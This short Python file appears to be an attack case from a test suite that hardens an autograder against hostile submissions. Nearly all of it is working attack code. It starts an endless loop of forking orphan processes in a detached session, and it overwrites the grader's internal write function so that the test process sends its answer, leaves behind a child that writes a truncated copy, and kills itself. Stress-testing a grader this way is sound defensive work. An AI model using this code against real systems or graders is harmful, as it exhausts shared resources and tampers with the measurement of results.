"""Orphans that die as fast as they are born, while the test's own process dies as it answers.

alone: 0 points
glued: any points
"""

import os

assert os.getuid() >= 64000, "an attack runs in a container of ours only"

import signal
import sys

if not os.fork():
    os.setsid()
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while True:
        try:
            if not os.fork():
                os.fork()
                os._exit(0)
        except OSError:
            pass

_child = sys.modules["autograder.worker.child"]
_write, _count = _child.write_all, 0


def _answer_and_die(descriptor, data):
    global _count
    _count += 1
    _write(descriptor, data)
    if _count == 2:
        if not os.fork():
            _write(descriptor, data[:7])
            signal.pause()
        os.kill(os.getpid(), signal.SIGKILL)


_child.write_all = _answer_and_die
